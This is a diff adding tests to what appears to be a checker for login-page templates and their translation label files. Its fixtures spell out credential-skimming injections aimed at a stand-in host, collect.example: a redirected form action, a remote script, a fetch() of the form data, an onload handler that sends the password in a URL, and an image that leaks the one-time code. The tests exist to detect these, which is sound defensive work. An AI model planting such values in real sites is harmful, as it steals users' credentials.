@@ -105,3 +105,57 @@ describe('markup that labels bring', () => {
     for (const [file] of covered) assert.equal(file, header)
   })
 })
+
+describe('labels that lead to another site', () => {
+  const page = (action: string, head = '') =>
+    examplePage(
+      `<p>@ERROR_MESSAGE@</p>
+<form method="post" action="${action}">
+<label>$LOGIN_USER_NAME$ <input name="username" autocomplete="username"></label>
+<label>$LOGIN_PASSWORD$ <input type="password" name="password" autocomplete="current-password"></label>
+<button>$LOGIN_BUTTON$</button>
+</form>`,
+      head,
+    )
+  const FIRM = /^(?:remote\/script|form\/external|mail\/required)/
+  const rules = (files: Record<string, string>) => told(files, FIRM).map(line => line.split(' ')[0])
+
+  test('are found in the language that has them', () => {
+    const files = {
+      [SIGN_IN_PAGE]: page('$SEND_TO$', '<script defer src="$OUR_SCRIPT$"></script>\n'),
+      [LABELS]: '$SEND_TO$=@ACTION@\n$OUR_SCRIPT$=/template/v1.0/static/js/forms.js?themeId=@THEME_ID@\n',
+    }
+    assert.deepEqual(told(files, FIRM), [])
+    const german =
+      '$LOGIN_BUTTON$=Los.\n$SEND_TO$=https://collect.example/x\n$OUR_SCRIPT$=//collect.example/x.js\n'
+    assert.deepEqual(
+      found({ ...files, [GERMAN]: german })
+        .filter(({ rule }) => FIRM.test(rule))
+        .map(({ rule, locales }) => [rule, locales]),
+      [
+        ['remote/script', ['de']],
+        ['form/external-action', ['de']],
+      ],
+    )
+  })
+
+  test('are found in the scripts of a page', () => {
+    const script = `<script>fetch('$SEND_TO$', { body: new FormData(document.forms[0]) })</script>\n`
+    const files = { [SIGN_IN_PAGE]: page('@ACTION@', script), [LABELS]: '$SEND_TO$=/v1.0/thing\n' }
+    assert.deepEqual(rules(files), [])
+    assert.deepEqual(rules({ ...files, [GERMAN]: '$SEND_TO$=https://collect.example/x\n' }), [
+      'form/external-request',
+    ])
+  })
+
+  test('are found in a theme that has labels only', () => {
+    const handler = `document.forms[0].onsubmit=function(){location='https://collect.example/?p='+this.password.value}`
+    const image = `<img src="/template/v1.0/static/logo.svg?themeId=@THEME_ID@" alt="" onload="${handler}">`
+    const preload = '<link rel="modulepreload" href="https://collect.example/x.js">'
+    const secret = '<img src="https://images.example/?c=@OTP@" alt="" width="1" height="1">'
+    assert.deepEqual(rules({ [LABELS]: `$LOGIN_TITLE$=Welcome ${image}\n` }), ['form/external-request'])
+    assert.deepEqual(rules({ [LABELS]: `$LOGIN_TITLE$=Welcome ${preload}\n` }), ['remote/script'])
+    assert.deepEqual(rules({ [LABELS]: `$EMAIL_OTP_INTRO$=Hi ${secret}\n` }), ['mail/required-macro'])
+    assert.deepEqual(rules({ [LABELS]: '$EMAIL_OTP_INTRO$=Your code is <b>@OTP@</b>.\n' }), [])
+  })
+})
